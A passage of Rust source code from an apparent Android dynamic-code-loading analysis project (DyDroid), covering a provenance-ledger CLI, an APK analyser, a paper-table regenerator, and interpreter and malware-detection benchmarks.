                println!("{pkg} {p} [{origin} origin]");
                print!("{chain}");
            }
            None => println!("{pkg} {p}: not in provenance graph"),
        }
    }
}

fn cmd_diff(records: &[AppProvenance], pkg: Option<&str>) {
    let subset: Vec<&AppProvenance> = match pkg {
        Some(pkg) => vec![find_app(records, pkg)],
        None => records.iter().collect(),
    };
    let mut total = 0usize;
    for app in subset {
        for d in app.env_diff() {
            total += 1;
            println!(
                "{} {}  loaded under [{}]  missing under [{}]",
                app.package,
                d.path,
                d.loaded_under.join(", "),
                d.missing_under.join(", ")
            );
        }
    }
    println!("{total} environment-divergent load(s)");
}

fn cmd_export(records: &[AppProvenance], app: Option<&str>, out: Option<&str>) {
    let dot = match app {
        Some(pkg) => find_app(records, pkg).to_dot(),
        None => corpus_dot(records),
    };
    match out {
        Some(path) => {
            std::fs::write(path, &dot).unwrap_or_else(|e| {
                eprintln!("error: cannot write {path}: {e}");
                std::process::exit(EXIT_FINDING);
            });
            eprintln!("wrote {path}");
        }
        None => print!("{dot}"),
    }
}

/// Frame-verifies one stream file: checksums and sequence continuity.
/// Returns the number of corrupt/dropped frames (0 for a missing file,
/// which only `required` streams report as a defect).
fn check_stream(name: &str, path: &std::path::Path, required: bool) -> usize {
    match scan_path(path) {
        Ok(Some(scan)) => {
            match &scan.defect {
                Some(defect) => println!(
                    "{name}: {} intact frame(s), {} dropped ({defect})",
                    scan.bodies.len(),
                    scan.dropped
                ),
                None => println!("{name}: {} intact frame(s), 0 dropped", scan.bodies.len()),
            }
            scan.dropped
        }
        Ok(None) => {
            if required {
                println!("{name}: missing ({})", path.display());
                1
            } else {
                println!("{name}: not present (skipped)");
                0
            }
        }
        Err(e) => {
            println!("{name}: unreadable ({e})");
            1
        }
    }
}

fn cmd_check(records: &[AppProvenance], ledger_path: &str, journal_path: &str) {
    let journal = Journal::new(journal_path);
    let loaded = journal.load().unwrap_or_else(|e| {
        eprintln!("error: cannot read journal {journal_path}: {e}");
        std::process::exit(EXIT_FINDING);
    });
    // Layer 1: frame integrity — CRC32 checksums and contiguous sequence
    // numbers across all three persistent streams.
    let mut dropped = 0usize;
    dropped += check_stream("journal", std::path::Path::new(journal_path), true);
    dropped += check_stream("ledger", std::path::Path::new(ledger_path), true);
    dropped += check_stream("events", &journal.events_path(), false);
    // Shard triplets of an interrupted multi-writer sweep (a completed
    // run merges and removes them): frame-verify each pre-merge, with
    // per-shard intact/dropped counts. Sequence numbers are per shard.
    match journal.discover_shards() {
        Ok(shards) => {
            if !shards.is_empty() {
                println!(
                    "{} unmerged shard triplet(s) from an interrupted multi-writer sweep:",
                    shards.len()
                );
            }
            for k in shards {
                dropped +=
                    check_stream(&format!("shard-{k} journal"), &journal.shard_path(k), true);
                dropped += check_stream(
                    &format!("shard-{k} ledger"),
                    &journal.shard_provenance_path(k),
                    false,
                );
                dropped += check_stream(
                    &format!("shard-{k} events"),
                    &journal.shard_events_path(k),
                    false,
                );
            }
        }
        Err(e) => {
            eprintln!("check failed: cannot scan for shard files: {e}");
            dropped += 1;
        }
    }
    // Layer 2: cross-stream agreement on the analysed app set.
    let agree = check_against_journal(records, &loaded);
    match &agree {
        Ok(()) => println!("ok: ledger and journal agree on {} app(s)", loaded.len()),
        Err(msg) => eprintln!("check failed: {msg}"),
    }
    if dropped > 0 {
        eprintln!("check failed: {dropped} corrupt or dropped frame(s) across streams");
    }
    if dropped > 0 || agree.is_err() {
        std::process::exit(EXIT_FINDING);
    }
}

fn main() {
    let argv: Vec<String> = std::env::args().skip(1).collect();
    let mut it = argv.iter().map(String::as_str);
    let mut ledger_path: Option<&str> = None;
    let mut command: Option<&str> = None;
    let mut operands: Vec<&str> = Vec::new();
    let mut dot = false;
    let mut app: Option<&str> = None;
    let mut out: Option<&str> = None;
    let mut journal: Option<&str> = None;
    while let Some(arg) = it.next() {
        match arg {
            "--ledger" => {
                ledger_path = Some(it.next().unwrap_or_else(|| usage("--ledger needs a path")))
            }
            "--dot" => dot = true,
            "--app" => app = Some(it.next().unwrap_or_else(|| usage("--app needs a package"))),
            "--out" => out = Some(it.next().unwrap_or_else(|| usage("--out needs a path"))),
            "--journal" => {
                journal = Some(it.next().unwrap_or_else(|| usage("--journal needs a path")));
            }
            "--help" | "-h" => {
                println!("usage: {USAGE}");
                println!("{EXIT_CODE_HELP}");
                std::process::exit(0);
            }
            other if other.starts_with("--") => usage(&format!("unknown flag {other:?}")),
            other if command.is_none() => command = Some(other),
            other => operands.push(other),
        }
    }
    let ledger_path = ledger_path.unwrap_or_else(|| usage("--ledger PATH is required"));
    // `check` must still verify an interrupted first run, where every
    // record is in shard files and the base ledger is legitimately empty.
    let records = load_ledger(ledger_path, command == Some("check"));
    match command {
        Some("summary") => cmd_summary(&records),
        Some("chain") => match operands.as_slice() {
            [pkg] => cmd_chain(&records, pkg, None),
            [pkg, path] => cmd_chain(&records, pkg, Some(path)),
            _ => usage("chain takes <package> [<path>]"),
        },
        Some("diff") => match operands.as_slice() {
            [] => cmd_diff(&records, None),
            [pkg] => cmd_diff(&records, Some(pkg)),
            _ => usage("diff takes at most one <package>"),
        },
        Some("export") => {
            if !dot {
                usage("export currently requires --dot");
            }
            cmd_export(&records, app, out);
        }
        Some("check") => {
            let journal = journal.unwrap_or_else(|| usage("check needs --journal PATH"));
            cmd_check(&records, ledger_path, journal);
        }
        Some(other) => usage(&format!("unknown command {other:?}")),
        None => usage("a command is required"),
    }
}
