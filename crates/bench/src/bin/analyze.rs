//! Analyses a single standalone APK with the full DyDroid pipeline and
//! prints the per-app report.
//!
//! ```text
//! analyze <app.apk> [--fixtures <corpus-dir>] [--json]
//! ```
//!
//! `--fixtures` points at a directory produced by `corpusgen` (containing
//! `fixtures.json`); the app's remote payloads and planted files are
//! loaded from there so remote-fetch apps can actually fetch.

use std::fs;
use std::path::{Path, PathBuf};

use dydroid::{Pipeline, PipelineConfig};

/// `(domain-or-path, path-or-owner, bytes)` fixture triples.
type Fixtures = Vec<(String, String, Vec<u8>)>;

fn load_fixtures(dir: &Path, package: &str) -> (Fixtures, Fixtures) {
    let mut remote = Vec::new();
    let mut device_files = Vec::new();
    let Ok(text) = fs::read_to_string(dir.join("fixtures.json")) else {
        return (remote, device_files);
    };
    let Ok(entries) = serde_json::from_str::<serde_json::Value>(&text) else {
        return (remote, device_files);
    };
    for entry in entries.as_array().into_iter().flatten() {
        if entry["package"].as_str() != Some(package) {
            continue;
        }
        for r in entry["remote"].as_array().into_iter().flatten() {
            if let (Some(domain), Some(path), Some(file)) =
                (r["domain"].as_str(), r["path"].as_str(), r["file"].as_str())
            {
                if let Ok(bytes) = fs::read(dir.join(file)) {
                    remote.push((domain.to_string(), path.to_string(), bytes));
                }
            }
        }
        for d in entry["device_files"].as_array().into_iter().flatten() {
            if let (Some(path), Some(owner), Some(file)) =
                (d["path"].as_str(), d["owner"].as_str(), d["file"].as_str())
            {
                if let Ok(bytes) = fs::read(dir.join(file)) {
                    device_files.push((path.to_string(), owner.to_string(), bytes));
                }
            }
        }
    }
    (remote, device_files)
}

fn main() {
    let mut apk_path: Option<PathBuf> = None;
    let mut fixtures: Option<PathBuf> = None;
    let mut json = false;
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--fixtures" => fixtures = args.next().map(PathBuf::from),
            "--json" => json = true,
            other if apk_path.is_none() => apk_path = Some(PathBuf::from(other)),
            other => {
                eprintln!("unexpected argument {other:?}");
                std::process::exit(2);
            }
        }
    }
    let Some(apk_path) = apk_path else {
        eprintln!("usage: analyze <app.apk> [--fixtures <corpus-dir>] [--json]");
        std::process::exit(2);
    };

    let apk = fs::read(&apk_path).unwrap_or_else(|e| {
        eprintln!("cannot read {}: {e}", apk_path.display());
        std::process::exit(1);
    });

    // Peek at the package to select fixtures.
    let package = dydroid_dex::Apk::parse(&apk)
        .and_then(|a| a.manifest().map(|m| m.package))
        .unwrap_or_else(|e| {
            eprintln!("not a valid apk: {e}");
            std::process::exit(1);
        });
    let (remote, device_files) = fixtures
        .as_deref()
        .map(|d| load_fixtures(d, &package))
        .unwrap_or_default();

    let pipeline = Pipeline::new(PipelineConfig::default());
    let record = pipeline
        .analyze_apk(apk, remote, device_files)
        .expect("validated above");

    if json {
        println!(
            "{}",
            serde_json::to_string_pretty(&record).expect("serialise")
        );
        return;
    }

    println!("package:        {}", record.package);
    println!("decompiled:     {}", record.decompiled);
    println!(
        "DCL code:       dex={} native={}",
        record.filter.has_dex_dcl, record.filter.has_native_dcl
    );
    let o = &record.obfuscation;
    println!(
        "obfuscation:    lexical={} reflection={} native={} dex-encryption={} anti-decompilation={}",
        o.lexical, o.reflection, o.native, o.dex_encryption, o.anti_decompilation
    );
    println!("rewritten:      {}", record.rewritten);
    match &record.dynamic {
        None => println!("dynamic:        (not entered)"),
        Some(d) => {
            println!("dynamic status: {:?}", d.status);
            for e in d.dex_events.iter().chain(d.native_events.iter()) {
                println!(
                    "  loaded {:?} {} (call site {})",
                    e.kind, e.path, e.call_site_class
                );
            }
            for (path, urls) in &d.remote_loads {
                println!("  REMOTE  {} <- {}", path, urls.join(", "));
            }
            for v in &d.vulns {
                println!("  VULNERABLE: {v:?}");
            }
            for m in &d.malware {
                println!(
                    "  MALWARE: {} (score {:.2}) in {}",
                    m.family, m.score, m.path
                );
            }
            for l in &d.leak_types {
                println!(
                    "  LEAK: {:?}{}",
                    l.privacy,
                    if l.exclusively_third_party {
                        " (third-party code)"
                    } else {
                        ""
                    }
                );
            }
        }
    }
}
