//! Regenerates every table and figure of the DyDroid evaluation section.
//!
//! ```text
//! tables [--scale F] [--seed N] [--workers N] [--table N]... [--figure 3] [--all]
//!        [--json PATH] [--journal PATH] [--resume] [--perf-json PATH] [--trace-out PATH]
//!        [--profile-out PATH] [--progress] [--provenance-out PATH]
//!        [--sync-policy always|checkpoint|never]
//! ```
//!
//! With no selection flags, prints everything. Table numbers follow the
//! paper (2–10; Table I is the download-tracker rule set, which is an
//! input to the system, exercised by unit tests rather than regenerated).
//!
//! `--journal PATH` streams every completed app record to a JSON-lines
//! checkpoint file; with `--resume` a previous journal's apps are skipped
//! instead of re-analysed (without it the journal is reset first), so a
//! killed sweep picks up where it left off.
//!
//! Observability: `--perf-json PATH` writes the perf stats and the full
//! metrics snapshot (counters, gauges, per-phase histograms) as JSON;
//! `--trace-out PATH` writes a Chrome `trace_event` file loadable in
//! chrome://tracing or Perfetto; `--profile-out PATH` writes the sweep's
//! span-derived self-time profile as flamegraph-collapsed stack lines
//! (feed to `inferno` / `flamegraph.pl`, or read directly — hottest
//! self-time first via `dcltrace profile`); `--progress` prints a
//! periodic one-line sweep progress report to stderr; `--provenance-out PATH` writes the
//! per-app provenance ledger (one causal graph per JSON line, queryable
//! with `dcltrace`) to an explicit path — with `--journal` the ledger is
//! always written beside the journal as `<journal>.provenance.jsonl`.
//! `--sync-policy` picks when the persistent streams fsync: `always`
//! (per record), `checkpoint` (default, batched), or `never`.

use std::io::Write as _;

use dydroid::{Journal, Pipeline, PipelineConfig, SyncPolicy};
use dydroid_workload::{generate, CorpusSpec};

struct Args {
    scale: f64,
    seed: u64,
    workers: usize,
    tables: Vec<u32>,
    figure3: bool,
    all: bool,
    json: Option<String>,
    journal: Option<String>,
    resume: bool,
    perf_json: Option<String>,
    trace_out: Option<String>,
    profile_out: Option<String>,
    progress: bool,
    provenance_out: Option<String>,
    sync_policy: SyncPolicy,
}

fn parse_args() -> Args {
    let mut args = Args {
        scale: 0.1,
        seed: CorpusSpec::default().seed,
        workers: 0,
        tables: Vec::new(),
        figure3: false,
        all: false,
        json: None,
        journal: None,
        resume: false,
        perf_json: None,
        trace_out: None,
        profile_out: None,
        progress: false,
        provenance_out: None,
        sync_policy: SyncPolicy::default(),
    };
    let mut it = std::env::args().skip(1);
    while let Some(arg) = it.next() {
        match arg.as_str() {
            "--scale" => {
                args.scale = it
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| usage("--scale needs a float"));
            }
            "--seed" => {
                args.seed = it
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| usage("--seed needs an integer"));
            }
            "--workers" => {
                args.workers = it
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| usage("--workers needs an integer (0 = all cores)"));
            }
            "--table" => {
                let n = it
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| usage("--table needs a number 2..=10"));
                args.tables.push(n);
            }
            "--figure" => {
                let n: u32 = it
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| usage("--figure needs the number 3"));
                if n == 3 {
                    args.figure3 = true;
                } else {
                    usage("only figure 3 exists");
                }
            }
            "--all" => args.all = true,
            "--json" => args.json = it.next().or_else(|| usage("--json needs a path")),
            "--journal" => args.journal = it.next().or_else(|| usage("--journal needs a path")),
            "--resume" => args.resume = true,
            "--perf-json" => {
                args.perf_json = it.next().or_else(|| usage("--perf-json needs a path"));
            }
            "--trace-out" => {
                args.trace_out = it.next().or_else(|| usage("--trace-out needs a path"));
            }
            "--profile-out" => {
                args.profile_out = it.next().or_else(|| usage("--profile-out needs a path"));
            }
            "--progress" => args.progress = true,
            "--provenance-out" => {
                args.provenance_out = it.next().or_else(|| usage("--provenance-out needs a path"));
            }
            "--sync-policy" => {
                args.sync_policy = match it.next().as_deref() {
                    Some("always") => SyncPolicy::Always,
                    Some("checkpoint") => SyncPolicy::Checkpoint,
                    Some("never") => SyncPolicy::Never,
                    _ => usage("--sync-policy needs always|checkpoint|never"),
                };
            }
            "--help" | "-h" => {
                println!("usage: {USAGE}");
                std::process::exit(0);
            }
            other => usage(&format!("unknown argument {other:?}")),
        }
    }
    if args.tables.is_empty() && !args.figure3 {
        args.all = true;
    }
    if args.resume && args.journal.is_none() {
        usage("--resume needs --journal PATH");
    }
    args
}

const USAGE: &str = "tables [--scale F] [--seed N] [--workers N] [--table N]... [--figure 3] \
[--all] [--json PATH] [--journal PATH] [--resume] [--perf-json PATH] [--trace-out PATH] \
[--profile-out PATH] [--progress] [--provenance-out PATH] \
[--sync-policy always|checkpoint|never]";

fn usage(msg: &str) -> ! {
    eprintln!("error: {msg}");
    eprintln!("usage: {USAGE}");
    std::process::exit(2);
}

fn main() {
    let args = parse_args();
    eprintln!(
        "generating corpus (scale {}, seed {:#x}) ...",
        args.scale, args.seed
    );
    let t0 = std::time::Instant::now();
    let corpus = generate(&CorpusSpec {
        scale: args.scale,
        seed: args.seed,
    });
    eprintln!("corpus: {} apps in {:.1?}", corpus.len(), t0.elapsed());

    let needs_env = args.all || args.tables.contains(&8);
    let pipeline = Pipeline::new(PipelineConfig {
        environment_reruns: needs_env,
        workers: args.workers,
        progress: args.progress,
        trace_out: args.trace_out.clone(),
        profile_out: args.profile_out.clone(),
        provenance_out: args.provenance_out.clone(),
        sync_policy: args.sync_policy,
        ..Default::default()
    });
    let t1 = std::time::Instant::now();
    let report = match &args.journal {
        Some(path) => {
            let journal = Journal::new(path);
            if !args.resume {
                journal.reset().expect("reset journal");
            }
            pipeline
                .run_resumable(&corpus, &journal)
                .expect("journalled sweep")
        }
        None => pipeline.run(&corpus),
    };
    eprintln!("pipeline: analysed in {:.1?}", t1.elapsed());

    if args.all {
        println!("{}", report.render_all());
    } else {
        for t in &args.tables {
            let text = match t {
                2 => report.table2().render(),
                3 => report.table3().render(),
                4 => report.table4().render(),
                5 => report.table5().render(),
                6 => report.table6().render(),
                7 => report.table7().render(),
                8 => report.env_counts().render(),
                9 => report.table9().render(),
                10 => report.table10().render(),
                other => {
                    eprintln!("no table {other}; valid: 2..=10");
                    continue;
                }
            };
            println!("{text}");
        }
        if args.figure3 {
            println!("{}", report.figure3().render());
        }
    }

    if let Some(path) = args.json {
        let json = serde_json::json!({
            "scale": args.scale,
            "seed": args.seed,
            "apps": report.records().len(),
            "table2": report.table2(),
            "table3": report.table3(),
            "table4": report.table4(),
            "table5": report.table5(),
            "table6": report.table6(),
            "figure3": report.figure3(),
            "table7": report.table7(),
            "table8": report.env_counts(),
            "table9": report.table9(),
            "table10": report.table10(),
        });
        let mut f = std::fs::File::create(&path).expect("create json output");
        f.write_all(
            serde_json::to_string_pretty(&json)
                .expect("serialise")
                .as_bytes(),
        )
        .expect("write json output");
        eprintln!("wrote {path}");
    }

    if let Some(path) = args.perf_json {
        // One serialization path for all perf facts: the stats struct
        // (excluded from report JSON) plus the raw metrics snapshot.
        let perf = serde_json::json!({
            "stats": report.stats(),
            "metrics": pipeline.metrics_snapshot(),
        });
        let mut f = std::fs::File::create(&path).expect("create perf json output");
        f.write_all(
            serde_json::to_string_pretty(&perf)
                .expect("serialise perf")
                .as_bytes(),
        )
        .expect("write perf json output");
        eprintln!("wrote {path}");
    }
    if let Some(path) = &args.trace_out {
        eprintln!("trace written to {path} (load in chrome://tracing or https://ui.perfetto.dev)");
    }
    if let Some(path) = &args.profile_out {
        eprintln!("profile written to {path} (flamegraph-collapsed stacks; feed to inferno)");
    }
    if let Some(path) = &args.provenance_out {
        eprintln!("provenance ledger written to {path} (query with dcltrace --ledger {path})");
    } else if let Some(path) = &args.journal {
        let ledger = Journal::new(path).provenance_path();
        eprintln!(
            "provenance ledger written to {} (query with dcltrace)",
            ledger.display()
        );
    }
}
