//! rebar-style interpreter benchmark: drives a fixed mini-corpus of
//! synthetic bytecode workloads through the AVM twice — once on the
//! **legacy** string-resolving interpreter and once on the default
//! **fast** path (interned symbols, pre-resolved instruction streams,
//! inline caches, arena heap) — verifies both retire exactly the same
//! instruction count, and emits a unified `BENCH_avm.json` measurement
//! record (appended to `BENCH_history.jsonl`) with per-workload samples
//! so future changes have a regression trajectory. The retired
//! instruction count is a `Steady` virtual identity benchcmp gates
//! across machines.
//!
//! `--min-speedup` gates on the **aggregate** speedup (total instructions
//! over total wall-clock, fast vs legacy): CI passes `3.0`.

use std::time::Instant;

use dydroid_avm::{Device, DeviceConfig, Process};
use dydroid_bench::{ArgParser, CommonArgs, Direction, Measurement, Stats, EXIT_FINDING};
use dydroid_dex::builder::DexBuilder;
use dydroid_dex::{AccessFlags, CmpKind, DexFile, FieldRef, Manifest, MethodRef};

const USAGE: &str = "avmbench [--samples N] [--warmup N] [--iters N] [--min-speedup F] \
[--out PATH] [--history PATH | --no-history]";

const PKG: &str = "com.bench.app";
const ENTRY_CLASS: &str = "com.bench.Main";
const ENTRY: &str = "bench";

/// A `Worker` class with one int field and a `bump()V` virtual method,
/// shared by the call-heavy workloads.
fn add_worker(b: &mut DexBuilder) {
    let c = b.class("com.bench.Worker", "java.lang.Object");
    c.field("n", "I", AccessFlags::PRIVATE);
    let m = c.method("bump", "()V", AccessFlags::PUBLIC);
    m.registers(4);
    m.iget(1, 0, FieldRef::new("com.bench.Worker", "n", "I"));
    m.const_int(2, 1);
    m.binop(dydroid_dex::BinOp::Add, 1, 1, 2);
    m.iput(1, 0, FieldRef::new("com.bench.Worker", "n", "I"));
    m.ret_void();
}

/// Virtual-call churn: one hot monomorphic call site invoked in a loop —
/// the case the call-site inline cache exists for.
fn workload_calls() -> DexFile {
    let mut b = DexBuilder::new();
    add_worker(&mut b);
    let c = b.class(ENTRY_CLASS, "java.lang.Object");
    let m = c.method(ENTRY, "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
    m.registers(6);
    m.new_instance(0, "com.bench.Worker");
    m.const_int(1, 6000);
    m.const_int(2, 1);
    let head = m.label();
    let done = m.label();
    m.bind(head);
    m.if_zero(CmpKind::Le, 1, done);
    m.invoke_virtual(MethodRef::new("com.bench.Worker", "bump", "()V"), vec![0]);
    m.binop(dydroid_dex::BinOp::Sub, 1, 1, 2);
    m.goto(head);
    m.bind(done);
    m.ret_void();
    b.build()
}

/// Field churn: eight-field object, hot loop reads/writes the *last*
/// declared field — worst case for a linear scan, best case for the
/// field slot cache.
fn workload_fields() -> DexFile {
    let mut b = DexBuilder::new();
    let c = b.class(ENTRY_CLASS, "java.lang.Object");
    let m = c.method(ENTRY, "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
    m.registers(8);
    m.new_instance(0, ENTRY_CLASS);
    // Populate eight fields so `f7` sits at the end of the slot table.
    for i in 0..8 {
        m.const_int(1, i);
        m.iput(1, 0, FieldRef::new(ENTRY_CLASS, format!("f{i}"), "I"));
    }
    m.const_int(2, 5000);
    m.const_int(3, 1);
    let head = m.label();
    let done = m.label();
    m.bind(head);
    m.if_zero(CmpKind::Le, 2, done);
    m.iget(4, 0, FieldRef::new(ENTRY_CLASS, "f7", "I"));
    m.binop(dydroid_dex::BinOp::Add, 4, 4, 3);
    m.iput(4, 0, FieldRef::new(ENTRY_CLASS, "f7", "I"));
    m.binop(dydroid_dex::BinOp::Sub, 2, 2, 3);
    m.goto(head);
    m.bind(done);
    m.ret_void();
    b.build()
}

/// Mixed: statics, a virtual call and arithmetic per iteration —
/// the shape of real app glue code.
fn workload_mixed() -> DexFile {
    let mut b = DexBuilder::new();
    add_worker(&mut b);
    let c = b.class(ENTRY_CLASS, "java.lang.Object");
    let m = c.method(ENTRY, "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
    m.registers(8);
    m.new_instance(0, "com.bench.Worker");
    m.const_int(1, 4000);
    m.const_int(2, 1);
    m.const_int(3, 0);
    m.sput(3, FieldRef::new("com.bench.G", "total", "I"));
    let head = m.label();
    let done = m.label();
    m.bind(head);
    m.if_zero(CmpKind::Le, 1, done);
    m.invoke_virtual(MethodRef::new("com.bench.Worker", "bump", "()V"), vec![0]);
    m.sget(4, FieldRef::new("com.bench.G", "total", "I"));
    m.binop(dydroid_dex::BinOp::Add, 4, 4, 1);
    m.sput(4, FieldRef::new("com.bench.G", "total", "I"));
    m.binop(dydroid_dex::BinOp::Sub, 1, 1, 2);
    m.goto(head);
    m.bind(done);
    m.ret_void();
    b.build()
}

/// Pure register arithmetic — the floor: no names, no dispatch, so both
/// interpreters should be close here.
fn workload_arith() -> DexFile {
    let mut b = DexBuilder::new();
    let c = b.class(ENTRY_CLASS, "java.lang.Object");
    let m = c.method(ENTRY, "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
    m.registers(8);
    m.const_int(0, 0); // acc
    m.const_int(1, 15000); // i
    m.const_int(2, 1);
    m.const_int(3, 3);
    let head = m.label();
    let done = m.label();
    m.bind(head);
    m.if_zero(CmpKind::Le, 1, done);
    m.binop(dydroid_dex::BinOp::Mul, 4, 1, 3);
    m.binop(dydroid_dex::BinOp::Add, 0, 0, 4);
    m.binop(dydroid_dex::BinOp::Sub, 1, 1, 2);
    m.goto(head);
    m.bind(done);
    m.ret_void();
    b.build()
}

fn workloads() -> Vec<(&'static str, DexFile)> {
    vec![
        ("calls", workload_calls()),
        ("fields", workload_fields()),
        ("mixed", workload_mixed()),
        ("arith", workload_arith()),
    ]
}

struct Measured {
    /// Per-sample instructions/second.
    samples_ips: Vec<f64>,
    total_instructions: u64,
    total_secs: f64,
}

/// Runs one workload in one mode: a persistent process executes the
/// entry `iters` times per sample (resetting the heap between entries
/// so the arena, register pool and inline caches are exercised in
/// steady state), `warmup` unrecorded rounds first.
fn measure(classes: &DexFile, legacy: bool, common: &CommonArgs, iters: usize) -> Measured {
    let mut device = Device::new(DeviceConfig {
        legacy_interp: legacy,
        instrumented: false,
        ..DeviceConfig::default()
    });
    let manifest = Manifest::new(PKG);
    let mut proc = Process::new(PKG.to_string(), classes.clone(), &manifest);
    let run_round = |proc: &mut Process, device: &mut Device| {
        for _ in 0..iters {
            proc.heap.reset();
            if !proc.run_entry(device, ENTRY_CLASS, ENTRY) {
                eprintln!("avmbench: FAIL — workload crashed (legacy={legacy})");
                std::process::exit(EXIT_FINDING);
            }
        }
    };
    for _ in 0..common.warmup {
        run_round(&mut proc, &mut device);
    }
    let before_all = device.instructions_retired();
    let mut samples_ips = Vec::with_capacity(common.samples);
    let mut total_secs = 0.0;
    for _ in 0..common.samples {
        let before = device.instructions_retired();
        let t0 = Instant::now();
        run_round(&mut proc, &mut device);
        let secs = t0.elapsed().as_secs_f64();
        let insns = device.instructions_retired() - before;
        total_secs += secs;
        samples_ips.push(if secs > 0.0 { insns as f64 / secs } else { 0.0 });
    }
    Measured {
        samples_ips,
        total_instructions: device.instructions_retired() - before_all,
        total_secs,
    }
}

fn variant_json(m: &Measured) -> serde_json::Value {
    let stats = Stats::from_samples(&m.samples_ips);
    serde_json::json!({
        "samples_ips": m.samples_ips,
        "mean_ips": stats.mean,
        "median_ips": stats.median,
        "stddev_ips": stats.stddev,
        "instructions": m.total_instructions,
        "wall_secs": m.total_secs,
    })
}

fn main() {
    let mut parser = ArgParser::new(USAGE);
    let mut common = CommonArgs::for_bench("BENCH_avm.json", 10, 3);
    common.scale = 0.0;
    common.seed = 0;
    let mut iters = 5usize;
    while let Some(arg) = parser.next() {
        if common.accept(&arg, &mut parser) {
            continue;
        }
        match arg.as_str() {
            "--iters" => iters = parser.value("--iters", "an integer"),
            other => parser.fail(&format!("unknown argument {other:?}")),
        }
    }

    // The iteration count shapes the instruction-retirement identity, so
    // it belongs in the workload string: records at different --iters
    // are a shape mismatch and their Steady metrics must not gate.
    let workload = format!("legacy-vs-fast-i{iters}");
    let mut record = Measurement::new("avm", &workload, common.scale, common.seed);
    record.samples = common.samples;
    record.warmup = common.warmup;

    let mut per_workload = Vec::new();
    let mut legacy_insns = 0u64;
    let mut legacy_secs = 0.0f64;
    let mut fast_insns = 0u64;
    let mut fast_secs = 0.0f64;

    for (name, classes) in workloads() {
        eprintln!("avmbench: {name} ...");
        let legacy = measure(&classes, true, &common, iters);
        let fast = measure(&classes, false, &common, iters);
        // Correctness identity: both interpreters must retire exactly
        // the same instruction count on the same program.
        if legacy.total_instructions != fast.total_instructions {
            eprintln!(
                "avmbench: FAIL — {name}: legacy retired {} instructions, fast retired {}",
                legacy.total_instructions, fast.total_instructions
            );
            std::process::exit(EXIT_FINDING);
        }
        let legacy_med = Stats::from_samples(&legacy.samples_ips).median;
        let fast_med = Stats::from_samples(&fast.samples_ips).median;
        let speedup = fast_med / legacy_med.max(1.0);
        eprintln!(
            "avmbench: {name:<8} legacy {legacy_med:>12.0} ips | fast {fast_med:>12.0} ips | {speedup:.2}x"
        );
        legacy_insns += legacy.total_instructions;
        legacy_secs += legacy.total_secs;
        fast_insns += fast.total_instructions;
        fast_secs += fast.total_secs;
        record.push_metric(
            &format!("{name}_fast_ips"),
            "instructions/sec",
            Direction::Higher,
            false,
            fast.samples_ips.clone(),
        );
        record.push_metric(
            &format!("{name}_speedup"),
            "ratio",
            Direction::Higher,
            false,
            vec![speedup],
        );
        per_workload.push(serde_json::json!({
            "workload": name,
            "legacy": variant_json(&legacy),
            "fast": variant_json(&fast),
            "speedup": speedup,
        }));
    }

    let legacy_agg = legacy_insns as f64 / legacy_secs.max(f64::MIN_POSITIVE);
    let fast_agg = fast_insns as f64 / fast_secs.max(f64::MIN_POSITIVE);
    let aggregate = fast_agg / legacy_agg.max(1.0);
    eprintln!(
        "avmbench: aggregate legacy {legacy_agg:.0} ips -> fast {fast_agg:.0} ips ({aggregate:.2}x)"
    );

    record.push_metric(
        "aggregate_fast_ips",
        "instructions/sec",
        Direction::Higher,
        false,
        vec![fast_agg],
    );
    record.push_metric(
        "aggregate_speedup",
        "ratio",
        Direction::Higher,
        false,
        vec![aggregate],
    );
    // Deterministic identity: the fast path must retire exactly this
    // many instructions for the fixed workloads, on any machine.
    record.push_metric(
        "instructions_retired",
        "count",
        Direction::Steady,
        true,
        vec![fast_insns as f64],
    );
    record.counter("avm.instructions_retired", fast_insns);

    record.payload = serde_json::json!({
        "iters_per_sample": iters,
        "workloads": per_workload,
        "aggregate": serde_json::json!({
            "legacy_ips": legacy_agg,
            "fast_ips": fast_agg,
            "speedup": aggregate,
        }),
    });

    record
        .write_pretty(&common.out)
        .expect("write bench output");
    eprintln!("avmbench: wrote {}", common.out);
    common.append_history("avmbench", &record);

    if let Some(min_speedup) = common.gate("speedup") {
        if aggregate < min_speedup {
            eprintln!(
                "avmbench: FAIL — aggregate speedup {aggregate:.2}x below required {min_speedup:.2}x"
            );
            std::process::exit(EXIT_FINDING);
        }
    }
}
