//! rebar-style detection benchmark: trains a synthetic multi-family
//! detector, then runs the same test set through the **naive quadratic
//! scan** and the **inverted block index** (sequentially and fanned over
//! a thread pool), verifies all three produce identical verdicts, and
//! emits a unified `BENCH_detect.json` measurement record (appended to
//! `BENCH_history.jsonl`) with the index's pruning counters so future
//! changes have a regression trajectory. Wall-clock passes are sampled
//! over several rounds (rebar warmup/sample discipline); the flagged
//! count is a deterministic `Steady` identity benchcmp gates across
//! machines.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Instant;

use dydroid_analysis::{BinarySig, BlockSig, FamilyMatch, MalwareDetector};
use dydroid_bench::measure::sample_rounds;
use dydroid_bench::{ArgParser, CommonArgs, Direction, Measurement, Stats, EXIT_FINDING};
use rand::{Rng, RngCore, SeedableRng};
use rand_chacha::ChaCha8Rng;

const USAGE: &str = "detectbench [--families N] [--family-samples M] [--tests T] [--blocks B] \
[--threshold F] [--seed S] [--out PATH] [--samples N] [--warmup N] \
[--history PATH | --no-history] [--skip-naive]";

/// A family's base signature: variants of one family mutate this shared
/// block sequence, so intra-family overlap is high and cross-family
/// overlap is negligible — the shape real ACFG signatures have.
fn family_base(rng: &mut ChaCha8Rng, blocks: usize) -> Vec<BlockSig> {
    (0..blocks)
        .map(|_| BlockSig {
            pattern: rng.next_u64(),
            out_degree: (rng.next_u64() % 3) as u8,
        })
        .collect()
}

/// One variant: the family base with each position independently
/// replaced by a fresh random block with probability `mutation`.
fn variant(rng: &mut ChaCha8Rng, base: &[BlockSig], mutation: f64) -> BinarySig {
    let sigs = base
        .iter()
